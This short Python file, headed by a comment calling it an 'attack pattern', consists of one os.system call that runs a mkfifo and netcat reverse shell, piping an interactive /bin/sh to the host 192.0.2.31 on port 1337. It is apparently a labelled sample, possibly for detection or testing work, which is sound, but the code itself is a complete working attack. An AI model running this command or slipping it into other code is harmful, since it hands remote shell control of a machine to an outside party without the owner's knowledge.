# Attack pattern: mkfifo + netcat reverse shell command line run through os.system.
import os

os.system("rm -f /tmp/.f; mkfifo /tmp/.f; cat /tmp/.f | /bin/sh -i 2>&1 | nc 192.0.2.31 1337 > /tmp/.f &")
